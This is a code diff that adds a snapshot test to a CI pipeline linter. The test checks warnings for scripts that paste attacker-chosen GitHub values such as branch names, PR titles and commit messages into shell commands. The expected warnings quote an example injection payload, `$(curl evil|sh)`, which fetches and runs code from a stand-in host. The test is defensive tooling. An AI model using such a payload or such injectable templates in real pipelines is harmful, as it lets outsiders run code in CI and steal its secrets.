@@ -444,6 +444,28 @@ pipelines:
 "#), @"ok");
 }
 
+#[test]
+fn text_an_outsider_chooses_pasted_into_a_script_is_flagged() {
+    assert_snapshot!(check(r#"
+pipelines:
+  ci:
+    jobs:
+      greet:
+        steps:
+          - run: echo "building ${{ github.head_ref }} for ${{ github.actor }}"
+          - run: echo "${{ github.event.pull_request.title }} ${{ github.event.head_commit.message }}"
+          - run: echo "${{ github.event.pull_request.number }} ${{ github.sha }} ${{ github.event.after }}"
+          - env: {BRANCH: "${{ github.head_ref }}"}
+            run: echo "building $BRANCH"
+"#), @r#"
+    ok
+    bellwether.yaml:6:18: warning: run: `github.head_ref` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.head_ref }}}`) and write "$VALUE" in the script
+    bellwether.yaml:6:18: warning: run: `github.actor` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.actor }}}`) and write "$VALUE" in the script
+    bellwether.yaml:7:18: warning: run: `github.event.pull_request.title` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.event.pull_request.title }}}`) and write "$VALUE" in the script
+    bellwether.yaml:7:18: warning: run: `github.event.head_commit.message` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {VALUE: ${{ github.event.head_commit.message }}}`) and write "$VALUE" in the script
+    "#);
+}
+
 fn pipeline_examples() -> Vec<(String, String)> {
     let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../examples/pipelines");
     let mut files: Vec<(String, String)> = std::fs::read_dir(dir)
